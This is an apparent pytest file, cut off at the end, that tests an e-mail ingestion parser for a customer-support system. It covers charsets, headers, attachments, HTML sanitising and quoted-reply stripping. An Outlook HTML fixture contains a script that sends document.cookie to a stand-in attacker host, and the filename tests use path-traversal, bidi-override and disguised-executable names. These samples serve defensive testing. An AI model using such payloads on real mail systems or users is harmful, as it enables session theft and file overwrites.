"""Inbound e-mail is read the way the customer wrote it, whatever their mailer did to it.

Every message here is built as raw bytes, the way an MTA hands it over: CRLF line ends,
transfer encodings, charsets (declared, missing or lying) and folded headers.
"""

from __future__ import annotations

import base64
import datetime as dt
import quopri
import random
import re

import pytest

from tickets.ingest.mime import Address, MalformedEmail, ParsedEmail, parse_email

UTC = dt.UTC
SUPPORT = "Lumen Home Kundenservice <support@lumen-home.example>"


# Builders ----------------------------------------------------------------------------------------


def _crlf(data: bytes) -> bytes:
    return re.sub(rb"\r?\n", b"\r\n", data)


def _encode(data: bytes, cte: str | None) -> bytes:
    if cte == "base64":
        return base64.encodebytes(data)
    if cte == "quoted-printable":
        return quopri.encodestring(data)
    return data


def part(content_type: str, body: str | bytes = b"", *headers: str, cte: str | None = None) -> bytes:
    """One MIME entity: its header lines, a blank line, and the body in the given transfer encoding."""
    data = body.encode("utf-8") if isinstance(body, str) else body
    lines = [f"Content-Type: {content_type}", *headers]
    if cte:
        lines.append(f"Content-Transfer-Encoding: {cte}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + _crlf(_encode(data, cte))


def multipart(subtype: str, *parts: bytes, boundary: str, params: str = "") -> bytes:
    """A multipart entity with its own Content-Type line, ready to nest or to end a header block."""
    delimiter = b"--" + boundary.encode()
    body = b"".join(delimiter + b"\r\n" + entity + b"\r\n" for entity in parts) + delimiter + b"--\r\n"
    return f'Content-Type: multipart/{subtype}; boundary="{boundary}"{params}'.encode() + b"\r\n\r\n" + body


def mail(*headers: str | bytes, entity: bytes) -> bytes:
    """A whole message: top-level header lines followed by the entity (which brings Content-Type)."""
    lines = [line.encode("utf-8") if isinstance(line, str) else line for line in headers]
    return b"\r\n".join([*lines, entity])


def customer_mail(
    body: str | bytes = "Hello, where is my order?",
    *headers: str | bytes,
    subject: str | bytes = "Order 302-1234567",
    sender: str | bytes = "Anna Schmidt <anna.schmidt@example.de>",
    content_type: str = "text/plain; charset=utf-8",
    cte: str | None = "8bit",
) -> bytes:
    """A single-part message from a customer, with the headers every normal mail has."""
    subject_line = subject if isinstance(subject, bytes) else f"Subject: {subject}"
    sender_line = sender if isinstance(sender, bytes) else f"From: {sender}"
    return mail(
        sender_line,
        f"To: {SUPPORT}",
        subject_line,
        "Date: Tue, 13 Jan 2026 10:04:11 +0100",
        "Message-ID: <20260113100411.4711@mail.example.de>",
        "MIME-Version: 1.0",
        *headers,
        entity=part(content_type, body, cte=cte),
    )


def encoded_body(text: str, *, charset: str, codec: str | None = None, cte: str = "8bit") -> bytes:
    return customer_mail(
        text.encode(codec or charset), content_type=f"text/plain; charset={charset}", cte=cte
    )


# A Gmail reply in German: multipart/alternative, quoted-printable, wrapped attribution line.
GMAIL_PLAIN = """Guten Tag,

die Stehlampe kam leider beschädigt an – der Schirm ist gebrochen.
Können Sie mir bitte Ersatz schicken? Fotos hänge ich gern an.

Viele Grüße
Jürgen Müller

Am Mo., 12. Jan. 2026 um 08:00 Uhr schrieb Lumen Home <
support@lumen-home.example>:

> Vielen Dank für Ihre Bestellung 302-1234567.
> Ihr Paket ist unterwegs.
"""
GMAIL_HTML = (
    '<div dir="ltr"><div>Guten Tag,</div><div><br></div><div>die Stehlampe kam leider beschädigt an '
    '– der Schirm ist gebrochen.</div></div><br><div class="gmail_quote"><div class="gmail_attr">'
    "Am Mo., 12. Jan. 2026 um 08:00 Uhr schrieb Lumen Home &lt;support@lumen-home.example&gt;:</div>"
    "<blockquote>Vielen Dank für Ihre Bestellung 302-1234567.</blockquote></div>"
)
GMAIL_DE = mail(
    "MIME-Version: 1.0",
    "Date: Mon, 12 Jan 2026 09:15:02 +0100",
    "References: <order-302-1234567@lumen-home.example>\r\n <ship-302-1234567@lumen-home.example>",
    "In-Reply-To: <ship-302-1234567@lumen-home.example>",
    "Message-ID: <CAH8pX=w3Yx9Zq_kR2m+4B@mail.gmail.com>",
    "Subject: =?UTF-8?Q?Re=3A_Besch=C3=A4digte_Lieferung_=E2=80=93_Bestellung_302=2D1234567?=",
    "From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <Juergen.Mueller@GMAIL.com>",
    f"To: {SUPPORT}",
    entity=multipart(
        "alternative",
        part('text/plain; charset="UTF-8"', GMAIL_PLAIN, cte="quoted-printable"),
        part('text/html; charset="UTF-8"', GMAIL_HTML, cte="quoted-printable"),
        boundary="000000000000b5c3e8064a1f2d9e",
    ),
)

OUTLOOK_HTML = """<html xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<title>Wrong size</title>
<style>p.MsoNormal { margin: 0cm; font-family: Calibri; }</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
</head>
<body lang="EN-GB" onload="track()"><div class="WordSection1">
<p class="MsoNormal">Hello,</p>
<p class="MsoNormal">the order <b>#114-7788</b> arrived in the wrong size &amp; colour
(I ordered &quot;XL&quot;, got &lt;M&gt;) &#8211; it’s for my son’s birthday.</p>
<p class="MsoNormal"><a href="javascript:alert('pwned')" onclick="steal()">Click here</a> or see the
<a href="https://track.example/114-7788">tracking page</a>.</p>
<p><img src="http://pixel.tracker.example/open.gif"><img src="https://cdn.lumen-home.example/logo.png"></p>
<p class="MsoNormal">Kind regards,<br>Oliver Bennett</p>
</div></body></html>
"""


# Structure and transfer encodings ---------------------------------------------------------------


def test_gmail_reply_in_german_is_decoded_from_quoted_printable() -> None:
    parsed = parse_email(GMAIL_DE)

    assert parsed.subject == "Re: Beschädigte Lieferung – Bestellung 302-1234567"
    assert parsed.sender == Address(name="Jürgen Müller", address="juergen.mueller@gmail.com")
    assert parsed.to == (Address(name="Lumen Home Kundenservice", address="support@lumen-home.example"),)
    assert parsed.message_id == "<CAH8pX=w3Yx9Zq_kR2m+4B@mail.gmail.com>"
    assert parsed.in_reply_to == "<ship-302-1234567@lumen-home.example>"
    assert parsed.references == (
        "<order-302-1234567@lumen-home.example>",
        "<ship-302-1234567@lumen-home.example>",
    )
    assert parsed.date == dt.datetime(2026, 1, 12, 8, 15, 2, tzinfo=UTC)
    assert parsed.text == GMAIL_PLAIN.strip("\n")
    assert "Stehlampe kam leider beschädigt an" in parsed.html
    assert parsed.display_text == (
        "Guten Tag,\n\ndie Stehlampe kam leider beschädigt an – der Schirm ist gebrochen.\n"
        "Können Sie mir bitte Ersatz schicken? Fotos hänge ich gern an.\n\nViele Grüße\nJürgen Müller"
    )
    assert parsed.attachments == ()
    assert (parsed.auto_submitted, parsed.bounce, parsed.auto_reason) == (False, False, "")
    assert parsed.warnings == ()


def test_a_saved_eml_file_reads_the_same_as_the_bytes_from_the_mailbox(tmp_path) -> None:
    saved = tmp_path / "gmail-reply.eml"
    saved.write_bytes(GMAIL_DE)

    assert parse_email(saved.read_bytes()) == parse_email(GMAIL_DE)


def test_html_only_outlook_mail_loses_scripts_handlers_and_javascript_links() -> None:
    raw = customer_mail(
        OUTLOOK_HTML.encode("cp1252"),
        "X-Mailer: Microsoft Outlook 16.0",
        "Thread-Index: AdqF3d4RkL0m1ZyCQ0W5lY2b0x9Vtg==",
        sender="Oliver Bennett <oliver@bennett-interiors.example>",
        subject="Wrong size delivered",
        content_type='text/html; charset="windows-1252"',
        cte="quoted-printable",
    )

    parsed = parse_email(raw)

    for dangerous in (
        "<script",
        "document.cookie",
        "onclick",
        "onload",
        "javascript:",
        "<style",
        "MsoNormal {",
    ):
        assert dangerous not in parsed.html
    assert "<b>#114-7788</b>" in parsed.html
    assert 'href="https://track.example/114-7788"' in parsed.html
    assert 'src="https://cdn.lumen-home.example/logo.png"' in parsed.html
    assert "pixel.tracker.example" not in parsed.html
    assert parsed.text == (
        "Hello,\n\n"
        'the order #114-7788 arrived in the wrong size & colour (I ordered "XL", got <M>) – '
        "it’s for my son’s birthday.\n\n"
        "Click here or see the tracking page.\n\n"
        "Kind regards,\nOliver Bennett"
    )
    assert parsed.warnings == ()


def test_an_html_part_that_names_its_charset_only_in_a_meta_tag_is_decoded_with_it() -> None:
    markup = '<html><head><meta charset="gbk"></head><body><p>您好，耳机坏了，可以换货吗？</p></body></html>'
    raw = customer_mail(markup.encode("gbk"), content_type="text/html", cte="base64")

    assert parse_email(raw).text == "您好，耳机坏了，可以换货吗？"


def test_format_flowed_text_is_joined_back_into_paragraphs() -> None:
    body = (
        "This is a rather long sentence that Apple Mail \nwrapped at the screen edge.\n"
        " From the second line on, all is well.\n\n-- \nAnna\n"
    )
    raw = customer_mail(body, content_type="text/plain; charset=utf-8; format=flowed")

    parsed = parse_email(raw)

    assert parsed.text == (
        "This is a rather long sentence that Apple Mail wrapped at the screen edge.\n"
        "From the second line on, all is well.\n\n-- \nAnna"
    )
    assert parsed.display_text == (
        "This is a rather long sentence that Apple Mail wrapped at the screen edge.\n"
        "From the second line on, all is well."
    )


def test_base64_pdf_and_inline_image_of_a_related_html_body_become_attachments() -> None:
    pdf = (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type /Catalog>> endobj\n" + bytes(range(256)) + b"\n%%EOF\n"
    )
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(200, 256)) * 8 + b"\xff\xd9"
    raw = mail(
        "From: Anna Schmidt <anna.schmidt@example.de>",
        "Subject: Rechnung und Foto vom Schaden",
        "Date: Tue, 13 Jan 2026 10:04:11 +0100",
        "Message-ID: <photo-mail@example.de>",
        "MIME-Version: 1.0",
        entity=multipart(
            "mixed",
            multipart(
                "related",
                multipart(
                    "alternative",
                    part("text/plain; charset=utf-8", "Der Schirm ist gebrochen, siehe Foto.", cte="7bit"),
                    part(
                        "text/html; charset=utf-8",
                        '<p>Der Schirm ist gebrochen:</p><img src="cid:IMG_2041@01DC84A1.5E3F" alt="Foto">',
                        cte="quoted-printable",
                    ),
                    boundary="alt-7a1",
                ),
                part(
                    'image/jpeg; name="IMG_2041.jpg"',
                    jpeg,
                    "Content-ID: <IMG_2041@01DC84A1.5E3F>",
                    'Content-Disposition: inline; filename="IMG_2041.jpg"',
                    cte="base64",
                ),
                boundary="rel-7a1",
                params='; type="multipart/alternative"',
            ),
            part(
                'application/pdf; name="Rechnung-302-1234567.pdf"',
                pdf,
                'Content-Disposition: attachment; filename="Rechnung-302-1234567.pdf"',
                cte="base64",
            ),
            boundary="mix-7a1",
        ),
    )

    parsed = parse_email(raw)

    photo, invoice = parsed.attachments
    assert (photo.filename, photo.content_type, photo.payload) == ("IMG_2041.jpg", "image/jpeg", jpeg)
    assert (photo.content_id, photo.is_inline) == ("IMG_2041@01DC84A1.5E3F", True)
    assert (invoice.filename, invoice.content_type, invoice.payload) == (
        "Rechnung-302-1234567.pdf",
        "application/pdf",
        pdf,
    )
    assert (invoice.content_id, invoice.is_inline) == ("", False)
    assert parsed.text == "Der Schirm ist gebrochen, siehe Foto."
    assert 'src="cid:IMG_2041@01DC84A1.5E3F"' in parsed.html


def test_a_forwarded_message_is_kept_as_eml_and_its_text_follows_the_customers_note(tmp_path) -> None:
    carrier_mail = mail(
        "From: DHL Paket <noreply@dhl.example>",
        "To: anna.schmidt@example.de",
        "Date: Fri, 09 Jan 2026 16:20:00 +0100",
        "Subject: Ihre Sendung 00340434161234567890 konnte nicht zugestellt werden",
        "Message-ID: <dhl-4711@dhl.example>",
        entity=part(
            "text/plain; charset=utf-8",
            "Leider konnten wir Ihre Sendung nicht zustellen.\nSie liegt in der Filiale München bereit.",
            cte="quoted-printable",
        ),
    )
    raw = mail(
        "From: Anna Schmidt <anna.schmidt@example.de>",
        "Subject: Fwd: Ihre Sendung konnte nicht zugestellt werden",
        "Date: Tue, 13 Jan 2026 10:04:11 +0100",
        "Message-ID: <fwd-1@example.de>",
        "MIME-Version: 1.0",
        entity=multipart(
            "mixed",
            part("text/plain; charset=utf-8", "Das hat mir DHL geschickt. Was soll ich tun?"),
            part("message/rfc822", carrier_mail, "Content-Disposition: attachment"),
            boundary="fwd-1",
        ),
    )

    parsed = parse_email(raw)

    (forwarded,) = parsed.attachments
    assert forwarded.filename == "Ihre Sendung 00340434161234567890 konnte nicht zugestellt werden.eml"
    assert forwarded.content_type == "message/rfc822"
    saved = tmp_path / forwarded.filename
    saved.write_bytes(forwarded.payload)
    assert parse_email(saved.read_bytes()).text.endswith("Sie liegt in der Filiale München bereit.")
    assert parsed.text == (
        "Das hat mir DHL geschickt. Was soll ich tun?\n\n"
        "---------- Forwarded message ----------\n"
        "From: DHL Paket <noreply@dhl.example>\n"
        "Date: Fri, 09 Jan 2026 16:20:00 +0100\n"
        "Subject: Ihre Sendung 00340434161234567890 konnte nicht zugestellt werden\n\n"
        "Leider konnten wir Ihre Sendung nicht zustellen.\nSie liegt in der Filiale München bereit."
    )
    assert parsed.display_text == parsed.text


def test_an_attachment_over_the_size_limit_is_dropped_with_a_warning_naming_it() -> None:
    raw = mail(
        "From: Anna Schmidt <anna.schmidt@example.de>",
        "Subject: Fotos",
        entity=multipart(
            "mixed",
            part("text/plain; charset=utf-8", "Anbei die Fotos."),
            part(
                'application/zip; name="fotos.zip"',
                bytes(5000),
                "Content-Disposition: attachment",
                cte="base64",
            ),
            part('image/png; name="label.png"', b"\x89PNG" + bytes(196), cte="base64"),
            boundary="size-1",
        ),
    )

    parsed = parse_email(raw, max_attachment_bytes=1000)

    assert [attachment.filename for attachment in parsed.attachments] == ["label.png"]
    assert parsed.warnings == (
        'The attachment "fotos.zip" (5,000 bytes) is larger than the limit of 1,000 bytes and was not kept.',
    )


def test_an_attachment_of_a_blocked_type_is_not_kept_and_the_customer_text_stays() -> None:
    raw = mail(
        "From: Anna Schmidt <anna.schmidt@example.de>",
        "Subject: Rechnung",
        entity=multipart(
            "mixed",
            part("text/plain; charset=utf-8", "Hier ist die Rechnung."),
            part(
                'application/octet-stream; name="Rechnung.PDF.exe"',
                b"MZ" + bytes(300),
                "Content-Disposition: attachment",
                cte="base64",
            ),
            part('application/pdf; name="rechnung.pdf"', b"%PDF-1.4" + bytes(100), cte="base64"),
            boundary="blocked-1",
        ),
    )

    parsed = parse_email(raw, blocked_extensions=["exe", ".js"])

    assert [attachment.filename for attachment in parsed.attachments] == ["rechnung.pdf"]
    assert "Hier ist die Rechnung." in parsed.text
    assert parsed.warnings == (
        'The attachment "Rechnung.PDF.exe" has a blocked file type and was not kept '
        "(the original message still holds it).",
    )


def test_without_a_limit_every_attachment_is_kept() -> None:
    raw = mail(
        "From: Anna Schmidt <anna.schmidt@example.de>",
        entity=multipart(
            "mixed",
            part("text/plain", "Anbei."),
            part(
                "application/zip",
                bytes(5000),
                'Content-Disposition: attachment; filename="a.zip"',
                cte="base64",
            ),
            boundary="size-2",
        ),
    )

    assert len(parse_email(raw).attachments[0].payload) == 5000


def test_a_text_file_sent_as_an_attachment_is_not_read_as_the_body() -> None:
    raw = mail(
        "From: Anna Schmidt <anna.schmidt@example.de>",
        entity=multipart(
            "mixed",
            part("text/plain; charset=utf-8", "Siehe Datei."),
            part(
                "text/plain; charset=utf-8",
                "Seriennummer: 4711",
                'Content-Disposition: attachment; filename="sn.txt"',
            ),
            boundary="txt-1",
        ),
    )

    parsed = parse_email(raw)

    assert parsed.text == "Siehe Datei."
    assert [(a.filename, a.payload) for a in parsed.attachments] == [("sn.txt", b"Seriennummer: 4711")]


# Charsets ----------------------------------------------------------------------------------------


def test_gb2312_labelled_chinese_with_gb18030_only_characters_decodes_cleanly() -> None:
    text = "您好！我是王镕，订单 58213 里的𠮷祥杯还没有收到，麻烦查一下物流。"
    parsed = parse_email(encoded_body(text, charset="gb2312", codec="gb18030", cte="base64"))

    assert parsed.text == text
    assert parsed.warnings == ()


def test_big5_traditional_chinese_with_hong_kong_characters_decodes_cleanly() -> None:
    text = "您好，我訂的保溫杯還沒有收到，可以幫我查一下嗎？我喺香港。"
    parsed = parse_email(encoded_body(text, charset="big5", codec="big5hkscs", cte="quoted-printable"))

    assert parsed.text == text
    assert parsed.warnings == ()


def test_shift_jis_japanese_with_windows_extensions_decodes_cleanly() -> None:
    text = "お世話になっております。注文番号①の商品がまだ届いていません。髙橋"
    parsed = parse_email(encoded_body(text, charset="Shift_JIS", codec="cp932"))

    assert parsed.text == text
    assert parsed.warnings == ()


def test_iso_2022_jp_japanese_subject_and_body_decode_cleanly() -> None:
    body = "田中です。\nご注文の商品がまだ届いておりません。\n確認をお願いいたします。"
    subject = base64.b64encode("商品が届きません".encode("iso2022_jp")).decode()
    raw = customer_mail(
        body.encode("iso2022_jp"),
        subject=f"=?ISO-2022-JP?B?{subject}?=",
        sender="=?ISO-2022-JP?B?"
        + base64.b64encode("田中 花子".encode("iso2022_jp")).decode()
        + "?= <hanako@example.jp>",
        content_type="text/plain; charset=ISO-2022-JP",
        cte="7bit",
    )

    parsed = parse_email(raw)

    assert parsed.subject == "商品が届きません"
    assert parsed.sender == Address(name="田中 花子", address="hanako@example.jp")
    assert parsed.text == body
    assert parsed.warnings == ()


def test_euc_kr_korean_with_extended_hangul_decodes_cleanly() -> None:
    text = "안녕하세요. 똠얌꿍 소스를 주문했는데 아직 배송이 안 됐어요."
    parsed = parse_email(encoded_body(text, charset="EUC-KR", codec="cp949"))

    assert parsed.text == text
    assert parsed.warnings == ()


def test_windows_1252_french_keeps_smart_quotes_ellipsis_and_euro_sign() -> None:
    text = "Bonjour,\n\nJ’ai reçu le colis hier : la théière est fêlée… « Très déçu » – remboursez 49,90 € svp.\n\nFrançoise"
    raw = customer_mail(
        text.encode("cp1252"),
        subject="=?windows-1252?Q?Th=E9i=E8re_f=EAl=E9e_=96_commande_4471?=",
        content_type="text/plain; charset=windows-1252",
        cte="quoted-printable",
    )

    parsed = parse_email(raw)

    assert parsed.subject == "Théière fêlée – commande 4471"
    assert parsed.text == text
    assert parsed.warnings == ()


def test_iso_8859_1_label_on_windows_1252_smart_quotes_still_shows_the_quotes() -> None:
    parsed = parse_email(encoded_body("C’est “cassé”.", charset="iso-8859-1", codec="cp1252"))

    assert parsed.text == "C’est “cassé”."
    assert parsed.warnings == ()


def test_body_labelled_iso_8859_1_but_really_utf8_is_read_as_utf8_with_a_warning() -> None:
    text = "Hola, el pedido nº 5521 llegó dañado. ¿Me pueden enviar otro?"
    parsed = parse_email(encoded_body(text, charset="iso-8859-1", codec="utf-8", cte="quoted-printable"))

    assert parsed.text == text
    assert parsed.warnings == ("text/plain body: declared charset iso-8859-1 but the text decodes as utf-8",)


def test_body_labelled_iso_8859_1_but_really_gbk_is_read_as_chinese_with_a_warning() -> None:
    text = "您好，我在贵店购买的蓝牙耳机一直没有收到，物流显示已签收，请帮我查一下。谢谢！"
    parsed = parse_email(encoded_body(text, charset="iso-8859-1", codec="gbk"))

    assert parsed.text == text
    assert parsed.warnings == (
        "text/plain body: declared charset iso-8859-1 but the text decodes as gb18030",
    )


def test_unknown_charset_name_is_detected_and_warned_about() -> None:
    text = "Dzień dobry, paczka nie dotarła. Pozdrawiam, Łukasz Wiśniewski"
    parsed = parse_email(encoded_body(text, charset="x-unknown-42", codec="utf-8"))

    assert parsed.text == text
    assert parsed.warnings == (
        "text/plain body: unknown charset 'x-unknown-42' but the text decodes as utf-8",
    )


def test_undecodable_bytes_are_replaced_and_reported_rather_than_failing() -> None:
    parsed = parse_email(encoded_body("", charset="utf-8") + b"Ok \xff\xfe\xfd\xfc\x00\x80 fin")

    assert parsed.text == "Ok \ufffd\ufffd\ufffd\ufffd\ufffd fin"  # the NUL byte is dropped, not shown
    assert parsed.warnings == (
        "text/plain body: declared charset utf-8 and no charset fits; unreadable bytes were replaced",
    )


# Headers -----------------------------------------------------------------------------------------


def test_gb2312_subject_split_across_encoded_words_mid_character_is_rejoined() -> None:
    encoded = "关于订单 58213 的退款申请".encode("gb2312")
    first, second = (base64.b64encode(chunk).decode() for chunk in (encoded[:7], encoded[7:]))
    raw = customer_mail(subject=f"=?GB2312?B?{first}?=\r\n =?GB2312?B?{second}?=")

    assert parse_email(raw).subject == "关于订单 58213 的退款申请"


def test_q_encoded_iso_8859_1_sender_name_is_decoded_and_address_lower_cased() -> None:
    raw = customer_mail(sender="=?ISO-8859-1?Q?Fran=E7ois_L=E9v=EAque?= <F.Leveque@Orange.FR>")

    assert parse_email(raw).sender == Address(name="François Lévêque", address="f.leveque@orange.fr")


def test_raw_utf8_headers_are_read_without_complaint() -> None:
    raw = customer_mail(
        subject="Subject: Заказ 5521 не пришёл".encode(),
        sender="From: Алексей Смирнов <a.smirnov@example.ru>".encode(),
    )

    parsed = parse_email(raw)

    assert parsed.subject == "Заказ 5521 не пришёл"
    assert parsed.sender == Address(name="Алексей Смирнов", address="a.smirnov@example.ru")
    assert parsed.warnings == ()


def test_a_header_with_a_lone_invalid_byte_is_read_as_windows_1252_with_a_warning() -> None:
    parsed = parse_email(customer_mail(subject=b"Subject: Caf\xe9 au lait mug arrived broken"))

    assert parsed.subject == "Café au lait mug arrived broken"
    assert parsed.warnings == (
        "Subject header: no charset declared and the text is not utf-8; read it as windows-1252",
    )


def test_reply_to_to_and_cc_are_separate_address_lists() -> None:
    raw = customer_mail(
        "Hello",
        "Reply-To: Anna Privat <anna.privat@example.net>",
        'Cc: "Orders, Lumen" <Orders@Lumen-Home.example>,\r\n =?UTF-8?B?5byg5LiJ?= <zhang.san@example.cn>',
    )

    parsed = parse_email(raw)

    assert parsed.sender == Address(name="Anna Schmidt", address="anna.schmidt@example.de")
    assert parsed.reply_to == Address(name="Anna Privat", address="anna.privat@example.net")
    assert parsed.cc == (
        Address(name="Orders, Lumen", address="orders@lumen-home.example"),
        Address(name="张三", address="zhang.san@example.cn"),
    )


def test_message_ids_without_angle_brackets_are_normalised() -> None:
    raw = mail(
        "From: anna.schmidt@example.de",
        "Message-ID: 20260113.abc@mail.example",
        "In-Reply-To: <first@lumen-home.example> <second@lumen-home.example>",
        "References: <first@lumen-home.example>\r\n\t<second@lumen-home.example> <first@lumen-home.example>",
        entity=part("text/plain", "Hi"),
    )

    parsed = parse_email(raw)

    assert parsed.message_id == "<20260113.abc@mail.example>"
    assert parsed.in_reply_to == "<first@lumen-home.example>"
    assert parsed.references == ("<first@lumen-home.example>", "<second@lumen-home.example>")
    assert parsed.reply_to is None


def test_missing_message_id_date_and_from_leave_empty_values_and_a_warning() -> None:
    raw = mail("Subject: Hallo?", entity=part("text/plain; charset=utf-8", "Wo bleibt meine Bestellung?"))

    parsed = parse_email(raw)

    assert (parsed.message_id, parsed.date, parsed.sender) == ("", None, Address(name="", address=""))
    assert parsed.subject == "Hallo?"
    assert parsed.warnings == ("The message has no From address.",)


def test_an_invalid_date_is_ignored_with_a_warning() -> None:
    parsed = parse_email(customer_mail().replace(b"Tue, 13 Jan 2026 10:04:11 +0100", b"yesterday at noon"))

    assert parsed.date is None
    assert parsed.warnings == ("The Date header 'yesterday at noon' is not a valid date; it was ignored.",)


def test_a_date_without_a_zone_is_taken_as_utc() -> None:
    parsed = parse_email(customer_mail().replace(b"10:04:11 +0100", b"10:04:11 -0000"))

    assert parsed.date == dt.datetime(2026, 1, 13, 10, 4, 11, tzinfo=UTC)


def test_a_from_header_without_a_valid_address_keeps_the_name_and_an_empty_address() -> None:
    parsed = parse_email(customer_mail(sender="Anna Schmidt (no e-mail)"))

    assert parsed.sender.address == ""
    assert "Anna Schmidt" in parsed.sender.name


# Attachment names --------------------------------------------------------------------------------


def test_rfc2231_chinese_filename_with_continuations_is_decoded() -> None:
    raw = mail(
        "From: wang.rong@example.cn",
        entity=multipart(
            "mixed",
            part("text/plain; charset=utf-8", "发票见附件。"),
            part(
                "application/pdf",
                b"%PDF-1.7",
                "Content-Disposition: attachment;\r\n filename*0*=UTF-8''%E5%8F%91%E7%A5%A8%E5%92%8C;"
                "\r\n filename*1*=%E8%AE%A2%E5%8D%95%E7%A1%AE%E8%AE%A4;\r\n filename*2*=%E5%8D%95.pdf",
                cte="base64",
            ),
            boundary="2231",
        ),
    )

    assert parse_email(raw).attachments[0].filename == "发票和订单确认单.pdf"


def test_encoded_word_filename_from_outlook_is_decoded() -> None:
    name = base64.b64encode("退货单.xlsx".encode("gb2312")).decode()
    raw = mail(
        "From: wang.rong@example.cn",
        entity=multipart(
            "mixed",
            part("text/plain", "See file"),
            part(f'application/vnd.ms-excel; name="=?gb2312?B?{name}?="', b"PK\x03\x04", cte="base64"),
            boundary="ew",
        ),
    )

    assert parse_email(raw).attachments[0].filename == "退货单.xlsx"


@pytest.mark.parametrize(
    ("declared", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\anna\\Desktop\\invoice.pdf", "invoice.pdf"),
        ("in\tvoi\x07ce.pdf", "in voice.pdf"),
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("what?<>.pdf", "what___.pdf"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
        ("...", "attachment-1.bin"),
    ],
    ids=[
        "path traversal",
        "windows path",
        "control chars",
        "bidi override",
        "reserved chars",
        "too long",
        "dots",
    ],
)
def test_attachment_filenames_are_made_safe(declared: str, expected: str) -> None:
    raw = mail(
        "From: anna.schmidt@example.de",
        entity=part(
            "application/octet-stream",
            b"data",
            f"Content-Disposition: attachment; filename*=UTF-8''{_percent(declared)}",
            cte="base64",
        ),
    )

    (attachment,) = parse_email(raw).attachments
    assert attachment.filename == expected


def _percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8"))


def test_an_unnamed_attachment_gets_a_numbered_default_name() -> None:
    raw = mail(
        "From: anna.schmidt@example.de",
        entity=multipart(
            "mixed",
            part("text/plain", "Two files"),
            part("application/octet-stream", b"\x00\x01", cte="base64"),
            part("application/pdf", b"%PDF", cte="base64"),
            boundary="unnamed",
        ),
    )

    assert [a.filename for a in parse_email(raw).attachments] == ["attachment-1.bin", "attachment-2.pdf"]


# Quoted history and signatures -------------------------------------------------------------------

QUOTED_REPLIES = [
    (
        "english gmail",
        "Thanks, the parcel arrived today.",
        "On Tue, 13 Jan 2026 at 10:04, Lumen Home <support@lumen-home.example> wrote:",
    ),
    (
        "english apple mail",
        "Thanks, it arrived.",
        "On 13 Jan 2026, at 10:04, Lumen Home <support@lumen-home.example> wrote:",
    ),
    (
        "german",
        "Danke, das Paket ist heute angekommen.",
        "Am 13.01.2026 um 10:04 schrieb Lumen Home <support@lumen-home.example>:",
    ),
    (
        "french",
        "Merci, le colis est arrivé.",
        "Le mar. 13 janv. 2026 à 10:04, Lumen Home <support@lumen-home.example> a écrit :",
    ),
    (
        "spanish",
        "Gracias, el paquete llegó hoy.",
        "El mar, 13 ene 2026 a las 10:04, Lumen Home (<support@lumen-home.example>) escribió:",
    ),
    (
        "italian",
        "Grazie, il pacco è arrivato.",
        "Il giorno mar 13 gen 2026 alle ore 10:04 Lumen Home <support@lumen-home.example> ha scritto:",
    ),
    (
        "dutch",
        "Bedankt, het pakket is aangekomen.",
        "Op di 13 jan. 2026 om 10:04 schreef Lumen Home <support@lumen-home.example>:",
    ),
    (
        "polish",
        "Dziękuję, paczka dotarła.",
        "W dniu 13.01.2026 o 10:04, Lumen Home <support@lumen-home.example> napisał(a):",
    ),
    (
        "chinese",
        "谢谢，包裹今天到了。",
        "在 2026年1月13日 10:04，Lumen Home <support@lumen-home.example> 写道：",
    ),
    (
        "japanese",
        "ありがとうございます。届きました。",
        "2026年1月13日(火) 10:04 Lumen Home <support@lumen-home.example>さんは書きました:",
    ),
    (
        "outlook original message",
        "Thanks, received.",
        "-----Original Message-----\nFrom: Lumen Home\nSent: Tuesday, January 13, 2026 10:04 AM",
    ),
    (
        "outlook rule",
        "Thanks, received.",
        "________________________________\nFrom: Lumen Home <support@lumen-home.example>\nSent: Tuesday, January 13, 2026 10:04 AM\nTo: Anna Schmidt",
    ),
    (
        "outlook header block",
        "Thanks, received.",
        "From: Lumen Home <support@lumen-home.example>\nSent: Tuesday, 13 January 2026 10:04\nTo: Anna Schmidt\nSubject: RE: Order 302-1234567",
    ),
    (
        "german outlook header block",
        "Danke, erhalten.",
        "Von: Lumen Home <support@lumen-home.example>\nGesendet: Dienstag, 13. Januar 2026 10:04\nAn: Anna Schmidt\nBetreff: AW: Bestellung",
    ),
]


@pytest.mark.parametrize(
    ("reply", "attribution"), [case[1:] for case in QUOTED_REPLIES], ids=[case[0] for case in QUOTED_REPLIES]
)
def test_quoted_history_is_hidden_from_the_conversation_view(reply: str, attribution: str) -> None:
    body = f"{reply}\n\n{attribution}\n> Your parcel 302-1234567 is on its way.\n> Lumen Home\n"

    parsed = parse_email(customer_mail(body))

    assert parsed.display_text == reply
    assert "Your parcel 302-1234567 is on its way." in parsed.text


def test_a_trailing_block_of_quoted_lines_is_hidden_but_inline_answers_stay() -> None:
    body = "> Which colour?\nBlue, please.\n\n> Which size?\nXL.\n\n> Thanks for your order.\n> Lumen Home\n"

    assert (
        parse_email(customer_mail(body)).display_text
        == "> Which colour?\nBlue, please.\n\n> Which size?\nXL."
    )


def test_a_dash_dash_signature_is_hidden() -> None:
    body = (
        "Hi,\n\nthe lamp works now, thanks!\n\n-- \nOliver Bennett\nBennett Interiors Ltd\n+44 20 7946 0018\n"
    )

    assert parse_email(customer_mail(body)).display_text == "Hi,\n\nthe lamp works now, thanks!"


@pytest.mark.parametrize(
    "signature",
    ["Sent from my iPhone", "Von meinem iPhone gesendet", "Envoyé de mon iPad", "Get Outlook for Android"],
)
def test_mobile_sent_from_lines_are_hidden(signature: str) -> None:
    body = f"Passt, danke!\n\n{signature}\n\nOn Tue, 13 Jan 2026 at 10:04, Lumen Home wrote:\n> Ok?\n"

    assert parse_email(customer_mail(body)).display_text == "Passt, danke!"


def test_a_message_that_is_only_quoted_history_still_shows_its_text() -> None:
    body = (
